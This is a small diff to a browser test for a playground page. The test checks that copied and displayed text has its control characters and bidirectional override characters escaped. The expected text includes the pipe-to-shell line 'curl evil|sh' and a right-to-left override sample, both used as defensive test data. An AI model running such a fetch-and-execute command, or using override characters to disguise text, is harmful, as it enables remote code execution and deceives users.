@@ -206,7 +206,7 @@ test.describe('The playground', () => {
     const copied = await page.evaluate(() => navigator.clipboard.readText());
     const drawn = await results(page).evaluate(element => element.textContent);
     for (const text of [copied, drawn]) {
-      expect(text).toMatch(/^ *curl evil\|sh\n +\\u202eabc é 👩‍👧$/mu);
+      expect(text).toMatch(/^ *curl evil\|sh\n +\\u202eabc é 👩‍👧/mu);
       expect(text).not.toMatch(/(?![\n\t])\p{Cc}|[\u202a-\u202e]/u);
     }
   });
